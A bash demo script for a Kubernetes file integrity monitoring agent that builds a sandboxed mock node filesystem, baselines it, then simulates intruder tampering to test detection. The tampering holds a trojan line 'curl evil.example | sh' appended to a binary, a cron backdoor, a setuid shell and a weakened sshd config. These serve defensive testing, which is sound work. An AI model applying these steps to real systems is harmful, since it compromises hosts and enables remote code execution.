#!/usr/bin/env bash
# The demo until the cluster pieces exist: a sample node root, baselined with the default rules,
# tampered with like an intruder would, and checked. Usage: demo/run.sh path/to/fim-agent
set -euo pipefail
agent=${1:?usage: demo/run.sh path/to/fim-agent}
work=$(mktemp -d "${TMPDIR:-/tmp}/kube-fim-demo.XXXXXX")
trap 'rm -rf "$work"' EXIT
root=$work/node
db=$work/fim.db

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@"; }

step "A node's filesystem (a directory standing in for the host root)"
mkdir -p "$root"/{etc/ssh,etc/kubernetes/manifests,etc/cron.d,usr/bin,usr/lib,boot,root,var/lib/kubelet}
cp /etc/passwd /etc/group "$root/etc/"
printf 'PermitRootLogin no\nPasswordAuthentication no\n' > "$root/etc/ssh/sshd_config"
printf 'apiVersion: v1\nkind: Pod\n' > "$root/etc/kubernetes/manifests/kube-apiserver.yaml"
for b in ls cat sh; do cp "$(command -v $b)" "$root/usr/bin/"; done
cp -r /usr/lib/os-release "$root/usr/lib/" 2>/dev/null || echo 'ID=demo' > "$root/usr/lib/os-release"
head -c 4194304 /dev/urandom > "$root/boot/vmlinuz"
echo 'state' > "$root/var/lib/kubelet/cpu_manager_state"
find "$root" -type f | sed "s|$root||" | sort | sed 's/^/  /'

step "Baseline with the built-in default rules (/boot /etc /usr /root, minus kubelet/runtime paths)"
run "$agent" init --root "$root" --db "$db" | sed 's/^/  /'

step "Tamper: trojan a binary, plant a cron job, setuid a shell, weaken sshd, delete a file"
printf '#!/bin/sh\ncurl evil.example | sh\n' >> "$root/usr/bin/ls"
echo '* * * * * root /tmp/.x' > "$root/etc/cron.d/backdoor"
chmod 4755 "$root/usr/bin/sh"
sed -i 's/PermitRootLogin no/PermitRootLogin yes/' "$root/etc/ssh/sshd_config"
rm "$root/etc/group"
echo 'kubelet rewrites this all the time' >> "$root/etc/kubernetes/manifests/kube-apiserver.yaml"
echo 'changed' > "$root/var/lib/kubelet/cpu_manager_state"

step "Check (exit status is AIDE's: 1 added + 2 removed + 4 changed)"
set +e
"$agent" check --root "$root" --db "$db"
status=$?
set -e
echo "exit status: $status"
[ "$status" -eq 7 ] || { echo "demo: expected exit status 7 (added, removed and changed)" >&2; exit 1; }

step "The same as JSON, for machines (summary only)"
"$agent" check --root "$root" --db "$db" --incremental --format json | python3 -c 'import json,sys; r=json.load(sys.stdin); print(json.dumps(r["summary"])); [print(" ", c["path"], [a["attribute"] for a in c["changes"]]) for c in r["changed"]]' || true

step "Accept the current state as the new baseline, then check again"
"$agent" update --root "$root" --db "$db" > /dev/null || true
run "$agent" check --root "$root" --db "$db" --incremental | sed -n '1,3p'
